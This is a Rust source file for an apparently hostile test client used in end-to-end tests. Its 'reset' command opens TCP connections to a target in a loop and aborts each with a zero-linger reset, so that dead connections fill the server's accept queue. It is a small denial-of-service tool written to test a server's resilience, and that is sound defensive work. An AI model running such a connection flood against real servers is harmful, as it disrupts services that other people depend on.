//! A client that means harm, for the end-to-end tests: it runs inside a pod and needs no privilege.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

use nix::libc;
use nix::sys::socket::{setsockopt, sockopt};

const USAGE: &str = "abuse reset TARGET COUNT";

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
    let done = match words.as_slice() {
        ["reset", target, count] => {
            reset(target.parse().expect("an address"), count.parse().expect("a number"))
        }
        _ => Err(io::Error::other(USAGE)),
    };
    if let Err(error) = done {
        println!("failed: {error}");
        std::process::exit(1);
    }
}

/// Connects and resets at once, again and again: the server accepts connections that are dead already.
fn reset(target: SocketAddr, count: usize) -> io::Result<()> {
    for _ in 0..count {
        // One that finds no room in the queue any more says that the attack works.
        let Ok(stream) = TcpStream::connect_timeout(&target, Duration::from_millis(500)) else { break };
        setsockopt(&stream, sockopt::Linger, &libc::linger { l_onoff: 1, l_linger: 0 })?;
    }
    io::stdout().write_all(b"done\n")
}
